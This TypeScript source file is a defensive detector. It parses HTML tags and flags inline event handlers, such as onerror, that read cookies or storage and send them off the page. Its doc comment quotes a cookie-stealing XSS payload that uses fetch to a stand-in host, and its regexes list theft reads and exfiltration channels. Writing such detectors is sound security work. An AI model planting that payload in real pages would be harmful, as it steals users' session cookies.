import type { DetectorMatch } from '../../detector.js';
import { clip, MAX_MATCHES } from './find-phrases.js';
import { codeTest } from './script-links.js';

/**
 * HTML event handlers that steal or send data (`<img src=x onerror="fetch('https://x/?'+document.cookie)">`):
 * a client that renders the HTML of a tool result runs them with no click at all (onerror,
 * onload), with the page's cookies and storage in reach. Flagged when the handler reads cookies or
 * storage and has a way out of the page, or sends a request to another site with fetch,
 * XMLHttpRequest, sendBeacon or an Image. Reading alone stays silent: theme switches and cookie
 * banners read and set storage and cookies in inline handlers all day, and nothing leaves.
 */

/**
 * What every flagged handler holds, as written (JavaScript names are case-sensitive): a read, or
 * one of the senders. Text without any of these is not searched for tags.
 */
export const HANDLER_LITERALS: readonly string[] = [
  'document.cookie',
  'localStorage',
  'sessionStorage',
  'indexedDB',
  'fetch',
  'XMLHttpRequest',
  'sendBeacon',
  'Image',
];
const HANDLER_HINT = new RegExp(HANDLER_LITERALS.join('|').replaceAll('.', '\\.'));
const READS = /document\.cookie|localStorage|sessionStorage|indexedDB/;
/** Ways data leaves the page: requests, sockets, navigation, new windows, loading a resource, forms. */
const WAYS_OUT =
  /\bfetch\s*\(|\bXMLHttpRequest\b|\bsendBeacon\s*\(|\bnew\s+Image\b|\bWebSocket\b|\bEventSource\b|\bopen\s*\(|\.src\s*=(?!=)|\blocation(?:\.href)?\s*=(?!=)|\blocation\.(?:assign|replace)\s*\(|\bimport\s*\(|\.submit\s*\(/;
const SENDS = /\bfetch\s*\(|\bXMLHttpRequest\b|\bsendBeacon\s*\(|\bnew\s+Image\b/;
/** A URL of another site: `http(s)://` or protocol-relative `//host.tld` (not a `// comment`). */
const EXTERNAL_URL = /\bhttps?:\/\/|(?<![\w:/])\/\/[\w-]+(?:\.[\w-]+)+/i;

/** How far one tag is read: a longer run without `>` is not markup a client renders. */
const MAX_TAG = 4000;

interface Attribute {
  readonly start: number;
  readonly end: number;
  readonly name: string;
  readonly value: string;
}

function isBlank(code: number): boolean {
  return code === 32 || (code >= 9 && code <= 13);
}

function isLetter(code: number): boolean {
  return (code >= 97 && code <= 122) || (code >= 65 && code <= 90);
}

/** Index of the first character at or after `from`, before `limit`, that `stop` accepts (else `limit`). */
function scanTo(text: string, from: number, limit: number, stop: (code: number) => boolean): number {
  let i = from;
  while (i < limit && !stop(text.charCodeAt(i))) i++;
  return i;
}

const ENDS_NAME = (code: number) => isBlank(code) || code === 47 || code === 62 || code === 61;
const ENDS_BARE = (code: number) => isBlank(code) || code === 62;
const NOT_BLANK_OR_SLASH = (code: number) => !isBlank(code) && code !== 47;
const NOT_BLANK = (code: number) => !isBlank(code);

/**
 * Reads the tag opening at `lt` the way an HTML tokenizer does (attributes split by blanks or `/`,
 * values quoted or bare, so a handler after another one or after `src="x"` with no blank is
 * found), adding its `on...` attributes to `out`; returns where the tag ends.
 */
function readTag(text: string, lt: number, out: Attribute[]): number {
  const limit = Math.min(text.length, lt + MAX_TAG);
  let i = scanTo(text, lt + 1, limit, (code) => isBlank(code) || code === 47 || code === 62);
  while (i < limit) {
    i = scanTo(text, i, limit, NOT_BLANK_OR_SLASH);
    if (i >= limit || text.charCodeAt(i) === 62) return i + 1;
    const start = i;
    i = scanTo(text, i + 1, limit, ENDS_NAME);
    const name = text.slice(start, i);
    let value = '';
    const afterName = scanTo(text, i, limit, NOT_BLANK);
    if (text.charCodeAt(afterName) === 61) {
      const at = scanTo(text, afterName + 1, limit, NOT_BLANK);
      const quote = text.charCodeAt(at);
      if (quote === 34 || quote === 39) {
        const close = scanTo(text, at + 1, limit, (code) => code === quote);
        value = text.slice(at + 1, close);
        i = Math.min(close + 1, limit);
      } else {
        i = scanTo(text, at, limit, ENDS_BARE);
        value = text.slice(at, i);
      }
    }
    if (name.length > 4 && (name.charCodeAt(0) | 32) === 111 && (name.charCodeAt(1) | 32) === 110) {
      out.push({ start, end: i, name: name.toLowerCase(), value });
    }
  }
  return limit;
}

/** The `on...` attributes of every tag in `text`; a `<` inside a tag's values starts no tag. */
function handlerAttributes(text: string): Attribute[] {
  const found: Attribute[] = [];
  for (let lt = text.indexOf('<'); lt !== -1 && lt + 1 < text.length; ) {
    const next = isLetter(text.charCodeAt(lt + 1)) ? readTag(text, lt, found) : lt + 1;
    lt = text.indexOf('<', next);
  }
  return found;
}

function stealsOrSends(code: string): boolean {
  return (READS.test(code) && WAYS_OUT.test(code)) || (SENDS.test(code) && EXTERNAL_URL.test(code));
}

/** Event-handler attributes whose script reads cookies or storage or sends to another site. */
export function findScriptHandlers(text: string): DetectorMatch[] {
  if (!HANDLER_HINT.test(text)) return [];
  const found: DetectorMatch[] = [];
  const inCode = codeTest(text);
  for (const { start, end, name, value } of handlerAttributes(text)) {
    if (!stealsOrSends(value) || inCode(start)) continue;
    found.push({ start, end, detail: `event handler ${name}: "${clip(value)}"` });
    if (found.length >= MAX_MATCHES) break;
  }
  return found;
}
